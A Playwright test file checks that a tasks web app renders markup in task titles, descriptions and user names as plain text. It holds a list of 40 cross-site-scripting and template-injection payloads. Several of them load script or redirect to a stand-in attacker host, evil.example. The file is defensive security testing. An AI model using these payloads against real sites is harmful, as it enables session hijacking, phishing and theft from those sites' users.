import type { Page } from "@playwright/test";
import { BASE_URL, expect, signUp, somebody, test } from "./fixture";

const RUN = "window.injected=true";

/** What becomes something else wherever a text is taken for markup, script, an address or a template. */
const MARKUP = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=https://evil.example/x.js></script>`,
  `<script src=data:text/javascript,${RUN}></script>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}"`,
  `<img src="https://evil.example/seen.png">`,
  `"><img src=x onerror=${RUN}>`,
  `" autofocus onfocus="${RUN}`,
  `' onmouseover='${RUN}`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
  `<body onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<iframe src="javascript:parent.${RUN}">`,
  `<object data="data:text/html,<script>${RUN}</script>">`,
  `<embed src="https://evil.example/x.svg">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<style>@import "https://evil.example/x.css"</style>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<form action=https://evil.example/><button>Sign in</button></form>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<a href="javascript:${RUN}">here</a>`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `{{7*7}} {{constructor.constructor('${RUN}')()}}`,
  "${7*7} `${window.injected=true}`",
  `<%= 7*7 %> #{7*7} *{7*7}`,
  `&lt;script&gt;${RUN}&lt;/script&gt; \\u003cscript\\u003e`,
];

/** Notes what markup would do: open a dialog, leave the page, or fetch something from elsewhere. */
function watch(page: Page): string[] {
  const happened: string[] = [];
  page.on("dialog", (dialog) => {
    happened.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("request", (request) => {
    const { origin, protocol } = new URL(request.url());
    if (protocol !== "data:" && origin !== new URL(BASE_URL).origin) happened.push(request.url());
  });
  return happened;
}

/** Elements of the page by name, to see whether there are more than there should be. */
function elements(page: Page): Promise<Record<string, number>> {
  return page.evaluate(() => {
    const wanted = "img, iframe, object, embed, base, form, video, math, a, meta, link, style, script";
    const counts: Record<string, number> = {};
    for (const { localName } of document.querySelectorAll(wanted)) counts[localName] = (counts[localName] ?? 0) + 1;
    return counts;
  });
}

/** The tasks API, as the page itself would call it. */
async function addTasks(page: Page, texts: string[]): Promise<void> {
  const api = page.context().request;
  const { user } = await (await api.get("/api/auth/get-session")).json();
  const { token } = await (await api.get("/api/auth/token")).json();
  for (const text of texts) {
    const answer = await api.post(`/api/${user.id}/tasks`, {
      headers: { authorization: `Bearer ${token}` },
      data: { title: text, description: text },
    });
    expect(answer.status(), text).toBe(201);
  }
}

test("t327 markup in a title or a description is text", async ({ page, otherPage }) => {
  expect(new Set(MARKUP).size).toBe(40);
  const happened = watch(page);
  await signUp(page, somebody());
  await addTasks(page, MARKUP.map((_, number) => `plain ${number}`));
  await page.reload();
  await page.getByRole("button", { name: /more/i }).click();
  await expect(page.getByRole("listitem")).toHaveCount(40);
  const before = await elements(page);

  const other = await otherPage();
  const happenedThere = watch(other);
  await signUp(other, somebody("Mallory"));
  await addTasks(other, MARKUP);
  await other.reload();
  await other.getByRole("button", { name: /more/i }).click();
  await expect(other.getByRole("listitem")).toHaveCount(40);
  for (const text of MARKUP) await expect(other.getByText(text, { exact: true }), text).toHaveCount(2);
  expect(await elements(other)).toEqual(before);
  expect(await other.evaluate(() => "injected" in window)).toBe(false);
  expect([...happened, ...happenedThere]).toEqual([]);
});

test("t327 markup in a name is text", async ({ page }) => {
  const happened = watch(page);
  await signUp(page, somebody());
  const before = await elements(page);
  for (let first = 0; first < MARKUP.length; first += 10) {
    const name = MARKUP.slice(first, first + 10).join(" ");
    const answer = await page.context().request.post("/api/auth/update-user", {
      data: { name },
      headers: { origin: BASE_URL },
    });
    expect(answer.ok()).toBe(true);
    await page.goto("/tasks");
    await expect(page.getByText("Nothing to do")).toBeVisible();
    await expect(page.getByRole("banner").getByText(name, { exact: true })).toHaveCount(1);
    expect(await elements(page)).toEqual(before);
    await page.goto("/account");
    await expect(page.getByRole("region", { name: "Profile" }).getByLabel("Name")).toHaveValue(name);
  }
  expect(await page.evaluate(() => "injected" in window)).toBe(false);
  expect(happened).toEqual([]);
});
